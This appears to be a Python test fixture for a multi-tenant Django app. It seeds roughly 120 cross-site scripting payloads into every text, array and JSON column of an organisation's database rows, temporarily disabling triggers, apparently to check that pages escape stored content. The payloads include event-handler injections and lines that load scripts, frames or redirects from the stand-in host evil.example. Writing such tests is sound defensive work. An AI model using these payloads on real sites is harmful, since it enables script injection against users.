"""Markup that would run if a page let it: 120 payloads, and a way to write them into every text that an organisation
keeps, as a sync or a form would have brought them."""

from typing import Any

from django.contrib.postgres.fields import ArrayField
from django.db import models
from psycopg2 import sql
from psycopg2.extras import Json

from tests.house.isolation.canaries import connect, texts
from tests.house.isolation.world import Organisation, tenant_models

RUN = "window.ran=1"
TAGS = (
    "img src=x onerror",
    "svg onload",
    "body onload",
    "details open ontoggle",
    "video src=x onerror",
    "audio src=x onerror",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "marquee onstart",
    "iframe onload",
    "object data=x onerror",
    "embed src=x onerror",
    "a href=# autofocus onfocus",
    "div onmouseover",
    "button autofocus onfocus",
    "style onload",
    "link rel=stylesheet href=x onerror",
    "math onclick",
    "p onpointerenter",
)
PLACES = ("{0}", '">{0}', "'>{0}", "</title>{0}", "</textarea>{0}")  # out of text, attributes and elements
OTHERS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"';{RUN}//",
    f'";{RUN}//',
    f"javascript:{RUN}",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href=' javascript:{RUN}'>x</a>",
    f"{{{{{RUN}}}}}",
    "<script src=//evil.example/x.js></script>",
    "<img src=//evil.example/x.png>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<iframe src=//evil.example></iframe>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=x><button>x</button></form>",
    f"<svg><script>{RUN}</script></svg>",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    f"<div hx-on:load='{RUN}' hx-trigger=load>x</div>",
    f"\u2028{RUN}\u2029<script>{RUN}</script>",
)
PAYLOADS = (*(place.format(f"<{tag}={RUN}>") for tag in TAGS for place in PLACES), *OTHERS)


def put(made: Organisation, start: int = 0) -> int:
    """Every text of every row gets the next payloads, as many as fit; how many texts there were."""
    count = start
    with connect() as connection, connection.cursor() as cursor:
        cursor.execute("SELECT set_config('app.tenant_id', %s, false)", [str(made.tenant.pk)])
        for model in tenant_models():
            fields = [field for field in texts(model) if not _is_asked_for_by(field)]
            if not fields:
                continue
            table, key = sql.Identifier(model._meta.db_table), sql.Identifier(str(model._meta.pk.column))
            cursor.execute(sql.SQL("ALTER TABLE {} DISABLE TRIGGER USER").format(table))
            cursor.execute(sql.SQL("SELECT {} FROM {}").format(key, table))
            for (pk,) in cursor.fetchall():
                values = [_value(field, count + place) for place, field in enumerate(fields)]
                count += len(fields)
                pairs = sql.SQL(", ").join(
                    sql.SQL("{0} = " + _how(field)).format(sql.Identifier(field.column)) for field in fields
                )
                cursor.execute(sql.SQL("UPDATE {} SET {} WHERE {} = %s").format(table, pairs, key), [*values, pk])
            cursor.execute(sql.SQL("ALTER TABLE {} ENABLE TRIGGER USER").format(table))
    connection.close()
    return count


def _is_asked_for_by(field: Any) -> bool:
    """Unique texts stay as they are: two rows must not get the same."""
    return bool(field.unique or field.name in ("external_id", "lms_id", "recurly_id", "key", "label", "name_key"))


def _how(field: Any) -> str:
    if isinstance(field, models.JSONField):
        return "CASE jsonb_typeof({0}) WHEN 'object' THEN {0} || %s::jsonb ELSE {0} END"
    return "%s::varchar[]" if isinstance(field, ArrayField) else "%s"


def _value(field: Any, number: int) -> Any:
    if isinstance(field, models.JSONField):
        return Json({PAYLOADS[number % len(PAYLOADS)]: ["", PAYLOADS[(number + 1) % len(PAYLOADS)]]})
    if isinstance(field, ArrayField):
        return [_fitting(number, field.base_field.max_length or 100)]
    return _fitting(number, min(field.max_length or 1000, 1000))


def _fitting(number: int, limit: int) -> str:
    """As many payloads as the column takes, one of them at least, cut if need be."""
    text, place = PAYLOADS[number % len(PAYLOADS)], number + 1
    while len(text) + len(PAYLOADS[place % len(PAYLOADS)]) + 1 <= limit and place < number + 4:
        text += " " + PAYLOADS[place % len(PAYLOADS)]
        place += 1
    return text[:limit]
